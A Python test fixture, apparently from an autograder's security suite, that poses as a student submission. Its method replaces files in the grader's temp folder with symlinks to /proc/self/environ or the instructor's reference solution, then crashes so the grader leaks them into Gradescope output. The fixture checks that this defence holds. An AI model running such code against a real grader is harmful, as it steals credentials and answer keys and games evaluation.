"""Attack: make the grader read a secret for it. In a call it replaces every file of its temporary folder (where
the grader keeps its captured output today: output.log) by a symlink to a secret the *grader* can read, then
crashes the call, so that the grader reads "its output" (the head into the JSON report, the tail into the failing
check's message, hence into Gradescope's visible output).

TARGET (set by the test): "environment": /proc/self/environ, which the grader resolves as its own environment (a
token in it); "solution": the instructor's solution beside the class folder (course/reference.py).

Expected: neither secret appears in anything the grade writes or prints.
"""

import os
from pathlib import Path

from conformance import Conventions

TARGET = "environment"


def secret() -> str:
    if TARGET == "environment":
        return "/proc/self/environ"
    return str(Path(__file__).resolve().parents[2] / "reference.py")  # course/class/NAME/adapter.py


def strike():
    print("about to crash", flush=True)
    temp = Path(os.environ.get("TMPDIR", "/tmp"))
    for folder in (temp, temp / "work"):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names + ["output.log"]:
            path = folder / name
            if path.is_dir() and not path.is_symlink():
                continue
            try:
                path.unlink(missing_ok=True)
                path.symlink_to(secret())
            except OSError:
                pass
    os._exit(3)


class Adapter:
    conventions = Conventions(dtype="float64", framework="numpy")

    def positional_encoding(self, n, d_model):
        strike()


adapter = Adapter()
